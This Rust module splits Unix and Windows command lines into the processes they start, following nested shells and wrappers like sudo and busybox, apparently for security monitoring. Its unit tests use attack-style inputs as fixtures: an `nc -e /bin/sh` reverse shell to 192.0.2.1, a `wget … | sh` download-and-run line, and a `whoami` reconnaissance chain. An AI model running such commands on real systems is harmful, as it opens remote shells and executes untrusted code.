//! A command line as the processes that it starts.

/// Processes of one line at most.
const MAX_PROCESSES: usize = 16;
/// How deep lines may be in lines (`sh -c '…'`).
const MAX_DEPTH: usize = 3;
/// Words that only say how a command is run.
const KEYWORDS: [&str; 11] = ["if", "then", "elif", "else", "do", "while", "until", "!", "{", "}", "time"];
/// Programs that run what follows them.
const WRAPPERS: [&str; 14] = [
    "sudo", "doas", "nohup", "setsid", "env", "busybox", "exec", "command", "nice", "ionice", "timeout", "xargs",
    "stdbuf", "eval",
];
/// Shells whose `-c` takes a line.
const SHELLS: [&str; 6] = ["sh", "bash", "dash", "ash", "zsh", "ksh"];

/// Whose command lines these are.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum System {
    Unix,
    Windows,
}

/// A program that is started.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) struct Process {
    /// Its file; nothing for a line of several programs, seen whole.
    pub(super) image: Option<String>,
    pub(super) args: Vec<String>,
    /// Its arguments, with spaces between them.
    pub(super) line: String,
    /// File and line of what runs it, where that is in the same line.
    pub(super) parent: Option<(String, String)>,
}

/// The processes of a line, in their order; of a line of several the first is all of it.
pub(super) fn processes(line: &str, system: System) -> Vec<Process> {
    let mut found = Vec::new();
    let commands = split(line, system);
    if commands.len() > 1 {
        found.push(Process { image: None, args: Vec::new(), line: line.trim().to_owned(), parent: None });
    }
    for args in commands {
        add(args, system, None, MAX_DEPTH, &mut found);
    }
    found
}

fn add(
    mut args: Vec<String>,
    system: System,
    parent: Option<(String, String)>,
    depth: usize,
    found: &mut Vec<Process>,
) {
    let skipped = args.iter().take_while(|word| KEYWORDS.contains(&word.as_str()) || is_assignment(word)).count();
    args.drain(..skipped);
    let Some(program) = args.first() else { return };
    if found.len() >= MAX_PROCESSES {
        return;
    }
    let (image, name) = image(program, system);
    let line = args.join(" ");
    let process = Process { image: Some(image.clone()), args: args.clone(), line: line.clone(), parent };
    found.push(process);
    let Some(depth) = depth.checked_sub(1) else { return };
    let parent = Some((image, line));
    match system {
        System::Unix => {
            let inner = args.iter().position(|word| word.len() < 6 && word.starts_with('-') && word.ends_with('c'));
            if SHELLS.contains(&name.as_str())
                && let Some(inner) = inner.and_then(|at| args.get(at + 1))
            {
                for args in split(inner, system) {
                    add(args, system, parent.clone(), depth, found);
                }
            } else if WRAPPERS.contains(&name.as_str()) {
                add(wrapped(&name, args), system, parent, depth, found);
            }
        }
        System::Windows => {
            let switches: &[&str] = match name.as_str() {
                "cmd" => &["/c", "/k", "/r"],
                "powershell" | "pwsh" => &["-c", "-command", "/c"],
                _ => &[],
            };
            let is_switch = |word: &String| switches.iter().any(|switch| word.eq_ignore_ascii_case(switch));
            if let Some(at) = args.iter().position(is_switch) {
                let inner = args.get(at + 1..).unwrap_or_default().join(" ");
                for args in split(&inner, system) {
                    add(args, system, parent.clone(), depth, found);
                }
            }
        }
    }
}

/// What a wrapper runs: the words behind it, its options and their values.
fn wrapped(name: &str, args: Vec<String>) -> Vec<String> {
    let mut words = args.into_iter().skip(1).peekable();
    loop {
        let takes_value = match words.peek().map(String::as_str) {
            Some("--") => {
                words.next();
                break;
            }
            Some(option) if option.starts_with('-') => match name {
                "sudo" | "doas" => matches!(option, "-u" | "-g" | "-h" | "-p" | "-C"),
                "nice" | "ionice" => matches!(option, "-n" | "-c" | "-p"),
                "xargs" => matches!(option, "-n" | "-I" | "-P" | "-L" | "-d" | "-a"),
                "timeout" => matches!(option, "-s" | "-k"),
                _ => false,
            },
            Some(word) if is_assignment(word) => false,
            Some(word) if name == "timeout" && word.starts_with(|c: char| c.is_ascii_digit()) => false,
            _ => break,
        };
        words.next();
        if takes_value {
            words.next();
        }
    }
    words.collect()
}

/// `NAME=value`.
fn is_assignment(word: &str) -> bool {
    word.split_once('=').is_some_and(|(name, _)| {
        name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
            && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
    })
}

/// The file of a program and its bare name in small letters.
fn image(program: &str, system: System) -> (String, String) {
    match system {
        System::Unix => {
            let name = program.rsplit('/').next().unwrap_or(program);
            let image = if program.contains('/') { program.to_owned() } else { format!("/usr/bin/{program}") };
            (image, name.to_owned())
        }
        System::Windows => {
            let name = program.rsplit(['\\', '/']).next().unwrap_or(program).to_lowercase();
            let bare = name.strip_suffix(".exe").unwrap_or(&name).to_owned();
            let exe = if name.contains('.') { "" } else { ".exe" };
            let image = match bare.as_str() {
                _ if program.contains('\\') => format!("{program}{exe}"),
                "powershell" => r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe".to_owned(),
                _ => format!(r"C:\Windows\System32\{program}{exe}"),
            };
            (image, bare)
        }
    }
}

/// The commands of a line, each as its words without their quotes.
fn split(line: &str, system: System) -> Vec<Vec<String>> {
    let unix = system == System::Unix;
    let mut commands = Vec::new();
    let mut words: Vec<String> = Vec::new();
    let mut word: Option<String> = None;
    let mut quote: Option<char> = None;
    let mut before = ' ';
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        let mut ends = false;
        match (quote, c) {
            (Some(open), _) if c == open => quote = None,
            (Some('"'), '\\') if unix => {
                let escaped = chars.next_if(|next| matches!(next, '"' | '\\' | '$' | '`'));
                word.get_or_insert_default().push(escaped.unwrap_or('\\'));
            }
            (Some(_), _) => word.get_or_insert_default().push(c),
            (None, '"') => {
                quote = Some(c);
                word.get_or_insert_default();
            }
            (None, '\'') if unix => {
                quote = Some(c);
                word.get_or_insert_default();
            }
            (None, '\\') if unix => word.get_or_insert_default().extend(chars.next()),
            // Part of a redirection: `2>&1`, `&>file`.
            (None, '&') if before == '>' || chars.peek() == Some(&'>') => word.get_or_insert_default().push(c),
            (None, ';' | '&' | '|' | '\n') => ends = true,
            (None, '(' | ')' | '`') if unix => {
                ends = true;
                // Of `$(`.
                if word.as_deref() == Some("$") {
                    word = None;
                }
            }
            (None, _) if c.is_whitespace() => words.extend(word.take()),
            (None, _) => word.get_or_insert_default().push(c),
        }
        if ends {
            words.extend(word.take());
            commands.push(std::mem::take(&mut words));
        }
        before = c;
    }
    words.extend(word);
    commands.push(words);
    commands.retain(|words| !words.is_empty());
    commands
}

#[cfg(test)]
mod tests {
    use super::*;

    fn seen(line: &str, system: System) -> Vec<(String, String)> {
        let seen = processes(line, system).into_iter();
        seen.map(|process| (process.image.unwrap_or_default(), process.line)).collect()
    }

    fn unix(line: &str) -> Vec<(String, String)> {
        seen(line, System::Unix)
    }

    fn owned(expected: &[(&str, &str)]) -> Vec<(String, String)> {
        expected.iter().map(|(image, line)| ((*image).to_owned(), (*line).to_owned())).collect()
    }

    #[test]
    fn a_line_is_the_processes_that_it_starts() {
        assert_eq!(unix("uname -a"), owned(&[("/usr/bin/uname", "uname -a")]));
        assert_eq!(
            unix("cd /tmp; wget \"http://a/x y\" 2>&1 | sh &"),
            owned(&[
                ("", "cd /tmp; wget \"http://a/x y\" 2>&1 | sh &"),
                ("/usr/bin/cd", "cd /tmp"),
                ("/usr/bin/wget", "wget http://a/x y 2>&1"),
                ("/usr/bin/sh", "sh"),
            ])
        );
        assert_eq!(unix("LANG=C /bin/ls 'a;b' \\;"), owned(&[("/bin/ls", "/bin/ls a;b ;")]));
        assert_eq!(unix("echo $(id)"), owned(&[("", "echo $(id)"), ("/usr/bin/echo", "echo"), ("/usr/bin/id", "id")]));
        assert_eq!(unix("if true; then id; fi")[2], ("/usr/bin/id".into(), "id".into()));
        assert!(unix("").is_empty() && unix(" ;;& ").is_empty() && unix("A=1").is_empty());
    }

    #[test]
    fn what_is_run_by_something_else_has_that_as_its_parent() {
        let found = processes("sudo -u root timeout 5 bash -c 'id; nc -e /bin/sh 192.0.2.1 4444'", System::Unix);
        let images: Vec<&str> = found.iter().filter_map(|process| process.image.as_deref()).collect();
        assert_eq!(images, ["/usr/bin/sudo", "/usr/bin/timeout", "/usr/bin/bash", "/usr/bin/id", "/usr/bin/nc"]);
        assert_eq!(unix("sudo sudo sudo sudo sudo sudo id").len(), MAX_DEPTH + 1);
        let found = processes("bash -c 'id; /bin/nc -e /bin/sh 192.0.2.1 4444'", System::Unix);
        assert_eq!(found.len(), 3);
        let (image, line) = found[2].parent.clone().unwrap();
        assert_eq!((image.as_str(), line.as_str()), ("/usr/bin/bash", "bash -c id; /bin/nc -e /bin/sh 192.0.2.1 4444"));
        assert_eq!(found[2].args, ["/bin/nc", "-e", "/bin/sh", "192.0.2.1", "4444"]);
        assert_eq!(unix("busybox wget x")[1].0, "/usr/bin/wget");
        let found = unix("busybox wget -c http://192.0.2.1/x");
        assert_eq!(found[1..], owned(&[("/usr/bin/wget", "wget -c http://192.0.2.1/x")]), "no line of a shell");
        let found = unix("/bin/busybox sh -c 'id; ps'");
        assert_eq!(found[1..], owned(&[("/usr/bin/sh", "sh -c id; ps"), ("/usr/bin/id", "id"), ("/usr/bin/ps", "ps")]));
        assert_eq!(unix("env A=1 -i id")[1].1, "id");
    }

    #[test]
    fn windows_lines_have_windows_files() {
        let found = seen("cmd.exe /c \"whoami /all & C:\\Temp\\a.exe\"", System::Windows);
        assert_eq!(found[0].0, r"C:\Windows\System32\cmd.exe");
        assert_eq!(found[1], (r"C:\Windows\System32\whoami.exe".into(), "whoami /all".into()));
        assert_eq!(found[2].0, r"C:\Temp\a.exe");
        assert_eq!(seen("powershell -c Get-Process", System::Windows).len(), 2);
    }

    #[test]
    fn nothing_grows_without_bound() {
        assert_eq!(unix(&"id;".repeat(1_000)).len(), MAX_PROCESSES);
        for text in ["'", "\"", "\\", "$(", "`", "sudo", "bash -c", "sudo -u", "timeout -k", "\u{0}\u{301}'\""] {
            let _ = (unix(text), seen(text, System::Windows));
        }
    }
}
